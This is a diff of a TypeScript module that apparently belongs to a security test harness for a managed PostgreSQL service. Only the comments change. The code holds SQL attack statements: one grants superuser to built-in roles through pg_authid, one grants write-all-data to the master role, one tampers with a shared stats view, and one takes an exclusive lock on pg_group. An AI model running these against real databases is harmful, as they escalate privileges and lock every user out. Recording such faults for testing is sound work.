@@ -1,12 +1,12 @@
 import { MASTER, type Target } from './target.ts';
 
-/** What roles.sql of 0.1 left behind: the mark on three roles only. */
+/** The state that roles.sql of 0.1 left: only three roles have the mark. */
 export const withoutGuard = `
   UPDATE pg_authid SET rolsuper = rolname IN ('pg_execute_server_program', 'pg_read_server_files', 'pg_write_server_files')
     AND current_setting('server_version_num')::int < 160000
   WHERE oid < 10000 AND oid <> 10;`;
 
-/** Fault 1 of the attack on f796a9c, statement for statement, and its kind. */
+/** Fault 1 of the attack on f796a9c, statement by statement. */
 export function wayOut({ canaries }: Pick<Target, 'canaries'>): readonly string[] {
   return [
     `GRANT pg_write_all_data TO ${MASTER}`,
@@ -19,7 +19,7 @@ export function wayOut({ canaries }: Pick<Target, 'canaries'>): readonly string[
   ];
 }
 
-/** The same kind: other views on shared catalogs, and locks that keep everybody out. */
+/** The same kind of fault: other views on shared catalogs, and locks that lock every session out. */
 export const alsoByViews: readonly string[] = [
   `UPDATE pg_stat_database_conflicts SET datname='gone' WHERE datname='rdsadmin'`,
   'LOCK TABLE pg_group IN ACCESS EXCLUSIVE MODE',
